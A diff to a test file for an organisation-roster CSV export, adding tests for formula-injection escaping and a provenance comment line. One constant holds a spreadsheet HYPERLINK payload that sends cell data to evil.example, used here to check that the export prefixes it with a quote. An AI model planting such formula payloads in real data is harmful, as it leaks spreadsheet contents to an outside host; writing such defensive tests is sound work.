@@ -15,6 +15,7 @@ import { startTestServer, type TestServer } from '../support/server.js';
  */
 let server: TestServer;
 const id: Record<string, string> = {};
+const token: Record<string, string> = {};
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
 const TITLES: [string, string][] = [
@@ -42,6 +43,8 @@ beforeAll(async () => {
   id.body = toGlobalId('Body', body.id);
   const { authSecret } = loadConfig({ NODE_ENV: 'test' });
   const editor = await issueToken(authSecret, { role: 'ASSOCIATION_EDITOR', subject: 'editor', organizationId: org.id });
+  token.editor = editor;
+  token.secretariat = await issueToken(authSecret, { role: 'SECRETARIAT', subject: 'secretariat' });
   // Written by an editor through the API, as an attacker would.
   for (const [i, [, title]] of TITLES.entries()) {
     const { body: answer } = await server.gql(
@@ -79,7 +82,8 @@ async function roster(): Promise<Record<string, string>[]> {
   const response = await fetch(`${server.url}/export/bodies/${id.body}/roster.csv?asOf=2025-06-01`);
   expect(response.status).toBe(200);
   const text = new TextDecoder('utf-8').decode(new Uint8Array(await response.arrayBuffer())).replace(/^\uFEFF/, '');
-  const [header, ...rows] = parseCsv(text);
+  // the provenance comment line (issue 15, item 5) comes before the header
+  const [header, ...rows] = parseCsv(text.replace(/^#[^\n]*\n/, ''));
   expect(rows.every((r) => r.length === header.length)).toBe(true);
   return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
 }
@@ -108,5 +112,34 @@ describe('roster CSV', () => {
     const rows = await roster();
     expect(rows.map((r) => r.title)).toEqual(expect.arrayContaining(['Chủ tịch, kiêm "Tổng"', 'Phó chủ tịch\nthường trực', 'Ủy viên']));
     expect(new Set(rows.map((r) => r.organization))).toEqual(new Set(['Hội "Bạn bè", Hà Nội']));
+  });
+
+  it('a person named =HYPERLINK(...) through the API comes out as text', async () => {
+    const { body: created } = await server.gql('mutation($input: CreatePersonInput!) { createPerson(input: $input) { person { id } } }', { input: { fullName: HYPERLINK } }, { authorization: `Bearer ${token.secretariat}` });
+    expect(created.errors).toBeUndefined();
+    const { body: appointed } = await server.gql(
+      'mutation($input: AppointMemberInput!) { appointMember(input: $input) { membership { id } } }',
+      { input: { personId: created.data.createPerson.person.id, organizationId: id.org, bodyId: id.body, role: 'MEMBER', startDate: '2025-02-01' } },
+      { authorization: `Bearer ${token.editor}` },
+    );
+    expect(appointed.errors).toBeUndefined();
+    const rows = await roster();
+    expect(rows.map((r) => r.person)).toContain(`'${HYPERLINK}`);
+    expect(rows.map((r) => r.person)).not.toContain(HYPERLINK);
+  });
+
+  it('names its source and date on its first line, a comment before the header (issue 15, item 5)', async () => {
+    const before = new Date(Date.now() - 1000).toISOString().slice(0, 19);
+    const response = await fetch(`${server.url}/export/bodies/${id.body}/roster.csv?asOf=2025-06-01&ignored=a,b`);
+    const [comment, header] = (await response.text()).replace(/^\uFEFF/, '').split('\n');
+    expect(comment).toMatch(
+      new RegExp(`^# Amity — directory of Vietnam’s people-to-people diplomacy network: roster as of 2025-06-01; source: ${server.url.replace(/\./g, '\\.')}/export/bodies/${id.body}/roster\\.csv\\?asOf=2025-06-01; exported: (\\d{4}-\\d{2}-\\d{2}T\\d{2}:\\d{2}:\\d{2}Z); the sources of each row are in its sources column$`),
+    );
+    expect(comment.match(/exported: (\S+);/)![1] >= before).toBe(true);
+    // one cell in a spreadsheet: no comma (the parameters the route did not read are not echoed)
+    expect(comment).not.toContain(',');
+    expect(header).toBe('organization,body,term,person,role,title,start,end,term_start,term_end,congress,sources,certainty,last_attested');
+    const history = await fetch(`${server.url}/export/bodies/${id.body}/roster.csv?history=true`);
+    expect((await history.text()).split('\n')[0]).toMatch(/roster history; source: .*\/roster\.csv\?history=true; exported: /);
   });
 });
